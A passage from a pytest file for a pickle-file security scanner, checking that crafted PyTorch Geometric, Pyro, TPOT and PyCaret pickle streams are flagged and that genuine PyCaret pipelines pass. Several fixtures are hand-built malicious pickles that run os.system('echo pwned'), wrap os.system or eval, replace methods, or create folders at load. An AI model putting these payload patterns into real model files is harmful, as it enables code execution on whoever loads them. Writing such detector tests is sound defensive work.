    ("called class attribute an object", _pyg("Data") + _dict((_s("_tensor_attr_cls"), _pyg("Data"))) + b"b",
     "WS-PKL-027"),
    # a storage's `_cached_attr` sets get discard(key) at every assignment
    ("discard on a cached set", _pyg("NodeStorage") + _dict((_s("_cached_attr"), _dict((_s("NODE"), _EASY_DISCARD))))
     + b"b", "WS-PKL-026"),
])  # fmt: skip
def test_hostile_torch_geometric_streams_stay_flagged(tmp_path: Path, label: str, body: bytes, rule: str) -> None:
    """The PyG pack allows its graphs and storages restored from state: not a call of one, a command in a state, a
    method's name in a graph's dict, nor an item of a storage named like a method (the storage answers attribute
    lookups from its items, and a graph from its storage), nor an object where a Data keeps a class it calls."""
    found = scan_bytes(tmp_path, b"\x80\x02" + body + b".", "pyg.pt").findings
    assert rule in {f.rule_id for f in found if f.severity >= Severity.HIGH}, (label, [f.message for f in found])


_SOFTPLUS = _g("pyro.distributions.constraints", "_SoftplusPositive")
_PASSTHROUGH = _g("tpot.builtin_modules.passthrough", "Passthrough")


@pytest.mark.parametrize(("label", "body", "rule"), [
    ("constraint called", _SOFTPLUS + _tuple(b"K\x01") + b"R", "WS-PKL-014"),
    ("os.system in a constraint's state", _SOFTPLUS + b")\x81" + _dict((_s("lower_bound"), _g("os", "system")
                                                                       + _tuple(_s("echo pwned")) + b"R")) + b"b",
     "WS-PKL-001"),
    ("constraint's check replaced", _SOFTPLUS + b")\x81" + _dict((_s("check"), _CLASS)) + b"b", "WS-PKL-026"),
    ("transformer called", _PASSTHROUGH + _tuple(_s("x")) + b"R", "WS-PKL-014"),
    ("os.system in a transformer's state", _PASSTHROUGH + b")\x81" + _dict((_s("n"), _g("os", "system")
                                                                           + _tuple(_s("echo pwned")) + b"R")) + b"b",
     "WS-PKL-001"),
    ("transform replaced", _PASSTHROUGH + b")\x81" + _dict((_s("transform"), _CLASS)) + b"b", "WS-PKL-026"),
    # calls getattr(self.estimator, self.method)(X): not allowed
    ("estimator transformer", _g("tpot.builtin_modules.estimatortransformer", "EstimatorTransformer") + b")\x81"
     + _dict((_s("method"), _s("to_csv"))) + b"b", "WS-PKL-003"),
])  # fmt: skip
def test_hostile_pyro_and_tpot_streams_stay_flagged(tmp_path: Path, label: str, body: bytes, rule: str) -> None:
    found = scan_bytes(tmp_path, b"\x80\x02" + body + b".", "model.pkl").findings
    assert rule in {f.rule_id for f in found if f.severity >= Severity.HIGH}, (label, [f.message for f in found])


PYCARET = Path(__file__).parent / "data" / "pycaret"


@pytest.mark.parametrize("path", sorted(PYCARET.glob("pycaret_*")), ids=lambda path: path.name)
def test_real_pycaret_pipelines_pass(path: Path) -> None:
    """Helper 270: PyCaret's save_model files (its Pipeline, TransformerWrapper, CleanColumnNames, joblib's
    NotMemorizedFunc around `_fit_one`, `_transform_one`, `_full_transform`) were high. The files are PyCaret's own
    (tests/data/pycaret/README.md); rules/allow-pycaret.yaml records what they import."""
    found = scan(path).findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]


def test_pycaret_is_allowed_by_the_names_its_files_import_only() -> None:
    """PyCaret's pipeline and preprocessing classes its files import, restored from state only; joblib's
    NotMemorizedFunc by its whole name (not Memory nor MemorizedFunc, which read and write a cache folder); the
    pipeline's three functions as values only, never as callables."""
    from wscan.rules import builtin_rules_dir
    from wscan.rules.loader import load_pack

    lists = load_pack(builtin_rules_dir() / "allow-pycaret.yaml")["lists"]
    allowed = lists["allowed-callables"]
    assert "pycaret.internal.pipeline.Pipeline" in allowed
    assert all(name.startswith("pycaret.internal.") or name == "joblib.memory.NotMemorizedFunc" for name in allowed)
    assert allowed == lists["state-only-classes"]
    functions = ["pycaret.internal.pipeline._fit_one", "pycaret.internal.pipeline._full_transform",
                 "pycaret.internal.pipeline._transform_one"]  # fmt: skip
    assert lists["referenced-callables"] == functions
    assert not set(functions) & set(allowed)


def test_a_pycaret_pipeline_with_a_cache_folder_is_high() -> None:
    """Helper 274: PyCaret's Pipeline rebuilds its joblib cache from its state's `_memory` while it loads (its
    __setstate__ sets the `memory` property): pickle.load of this file made folders under the path it names."""
    found = scan(PYCARET / "hostile" / "pipeline_memory.pkl").findings
    assert "WS-PKL-033" in {f.rule_id for f in found if f.severity >= Severity.HIGH}, [
        (f.rule_id, f.message) for f in found]


def _pycaret_restored(module: str, name: str, state: bytes) -> bytes:
    made = _g("copyreg", "_reconstructor") + _tuple(_g(module, name), _g("builtins", "object"), b"N") + b"R"
    return made + state + b"b"


_PYCARET = "pycaret.internal.pipeline"
_WRAPPER = "pycaret.internal.preprocess.transformers"


def _not_memorized(func: bytes) -> bytes:
    return _pycaret_restored("joblib.memory", "NotMemorizedFunc", _dict((_s("func"), func)))


def _pycaret_pipeline(*pairs: tuple[bytes, bytes]) -> bytes:
    return _pycaret_restored(_PYCARET, "Pipeline", _dict((_s("steps"), b"]"), *pairs))


@pytest.mark.parametrize(("label", "body", "rule"), [
    ("pipeline called", _g(_PYCARET, "Pipeline") + _tuple(_s("x")) + b"R", "WS-PKL-014"),
    ("wrapper called", _g(_WRAPPER, "TransformerWrapper") + _tuple(_g("builtins", "print")) + b"R", "WS-PKL-014"),
    ("os.system in a wrapper's state", _pycaret_restored(_WRAPPER, "TransformerWrapper", _dict(
        (_s("include"), _g("os", "system") + _tuple(_s("echo pwned")) + b"R"))), "WS-PKL-001"),
    ("transform replaced", _pycaret_restored(_WRAPPER, "TransformerWrapper", _dict(
        (_s("transform"), _not_memorized(_g(_PYCARET, "_fit_one"))))), "WS-PKL-026"),
    ("predict replaced", _pycaret_pipeline((_s("_memory"), b"N"), (_s("predict"), _not_memorized(
        _g(_PYCARET, "_transform_one")))), "WS-PKL-026"),
    # the pipeline's functions are values: called while the file loads, directly or through the wrapper
    ("_fit_one called", _g(_PYCARET, "_fit_one") + _tuple(_s("x")) + b"R", "WS-PKL-003"),
    ("wrapper called at load", _not_memorized(_g(_PYCARET, "_fit_one")) + _tuple(_s("x")) + b"R", "WS-PKL-005"),
    # another function wrapped: judged as that function, or as an object where a library calls one
    ("os.system wrapped", _not_memorized(_g("os", "system")), "WS-PKL-001"),
    ("eval wrapped", _not_memorized(_g("builtins", "eval")), "WS-PKL-001"),
    ("wrapper as FunctionTransformer's func", _pycaret_restored(
        "sklearn.preprocessing._function_transformer", "FunctionTransformer",
        _dict((_s("func"), _not_memorized(_g("numpy", "add"))))), "WS-PKL-027"),
    # `_memory` is made a joblib Memory (a text) or has its cache() called (an object) while the file loads
    ("_memory names a folder", _pycaret_pipeline((_s("_memory"), _s("/tmp/cache"))), "WS-PKL-033"),
    ("_memory an object", _pycaret_pipeline((_s("_memory"), _not_memorized(_g(_PYCARET, "_fit_one")))),
     "WS-PKL-033"),
    ("_memory a Memory with a folder", _pycaret_pipeline((_s("_memory"), _pycaret_restored(
        "joblib.memory", "Memory", _dict((_s("location"), _s("/tmp/cache")))))), "WS-PKL-033"),
])  # fmt: skip
def test_hostile_pycaret_streams_stay_flagged(tmp_path: Path, label: str, body: bytes, rule: str) -> None:
    """The PyCaret pack allows its classes restored from state and the pipeline's functions as values: not a call
    of either, a command in a state, a method replaced, a wrapper (NotMemorizedFunc) around another function or in
    an attribute a library calls, nor a `_memory` that is not None. The Pipeline's own wrappers need no check: its
    __setstate__ makes them again from `_memory` (a file's wrapper around `print` there was gone after pickle.load)."""
    found = scan_bytes(tmp_path, b"\x80\x02" + body + b".", "model.pkl").findings
    assert rule in {f.rule_id for f in found if f.severity >= Severity.HIGH}, (label, [f.message for f in found])


def test_a_pycaret_pipeline_keeping_its_own_wrappers_and_no_memory_passes(tmp_path: Path) -> None:
    """What save_model writes: `_memory` None and the three wrappers around the pipeline's own functions."""
    wrappers = [(_s(key), _not_memorized(_g(_PYCARET, func))) for key, func in (
        ("_memory_fit", "_fit_one"), ("_memory_transform", "_transform_one"),
        ("_Pipeline__memory_full_transform", "_full_transform"))]  # fmt: skip
    body = _pycaret_pipeline((_s("_memory"), b"N"), *wrappers)
    found = scan_bytes(tmp_path, b"\x80\x02" + body + b".", "model.pkl").findings
    assert not [f"{f.rule_id}: {f.message}" for f in found if f.severity >= Severity.HIGH]
